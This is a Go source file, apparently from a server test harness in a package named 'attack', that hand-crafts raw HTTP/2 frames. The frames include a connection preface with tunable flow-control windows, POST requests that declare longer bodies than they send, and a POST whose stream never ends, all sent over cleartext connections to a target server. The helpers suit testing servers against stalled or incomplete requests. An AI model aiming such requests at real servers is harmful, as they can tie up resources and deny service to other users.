package attack

import (
	"encoding/binary"
	"net"
	"strconv"
)

// These are frame types and flags of HTTP/2 (RFC 9113, section 6).
const (
	h2Data, h2Headers, h2Settings, h2WindowUpdate = 0, 1, 4, 8
	h2EndStream, h2EndHeaders                     = 1, 4
)

// h2Frame returns an HTTP/2 frame.
func h2Frame(kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b := binary.BigEndian.AppendUint32([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}, stream)
	return append(b, payload...)
}

// h2Preface returns the preface of a connection. The argument window is the flow-control window of each
// stream. If wide is true, the window of the connection is practically unlimited. Otherwise it is the
// initial 65,535 bytes.
func h2Preface(window uint32, wide bool) []byte {
	b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	b = append(b, h2Frame(h2Settings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, 4}, window))...)
	if wide {
		b = append(b, h2Frame(h2WindowUpdate, 0, 0, binary.BigEndian.AppendUint32(nil, 1<<30))...)
	}
	return b
}

// h2Post returns the frames of the i-th POST on a connection. The request declares a body of length
// bytes and contains the bytes of body, which may be fewer. Its stream ends if they are all.
func h2Post(i int, body string, length int, headers ...string) []byte {
	text := func(b []byte, s string) []byte { return append(append(b, byte(len(s))), s...) } // len(s) < 127
	// :method POST and :scheme http.
	block := []byte{0x83, 0x86}
	block = text(append(block, 0x04), path)
	block = text(append(block, 0x01), "attacked.example")
	block = text(append(block, 0x0f, 31-15), "application/json")
	block = text(append(block, 0x0f, 28-15), strconv.Itoa(length))
	for j := 0; j+1 < len(headers); j += 2 {
		block = text(text(append(block, 0), headers[j]), headers[j+1])
	}
	stream := uint32(2*i + 1)
	flags := byte(0)
	if len(body) == length {
		flags = h2EndStream
	}
	b := h2Frame(h2Headers, h2EndHeaders, stream, block)
	return append(b, h2Frame(h2Data, flags, stream, []byte(body))...)
}

// h2Unended returns the frames of a POST that declares an empty body, and whose stream does not end.
func h2Unended() []byte {
	b := h2Post(0, "", 0)
	b[len(b)-5] = 0 // the flags of the last frame, which has no payload
	return b
}

// dial2 opens an HTTP/2 connection without TLS and writes the preface and then all texts.
func (s *target) dial2(preface []byte, texts ...[]byte) (net.Conn, error) {
	c, err := s.dialTo(s.server.http2)
	if err != nil {
		return nil, err
	}
	for _, text := range append([][]byte{preface}, texts...) {
		if _, err := c.Write(text); err != nil {
			c.Close()
			return nil, err
		}
	}
	return c, nil
}
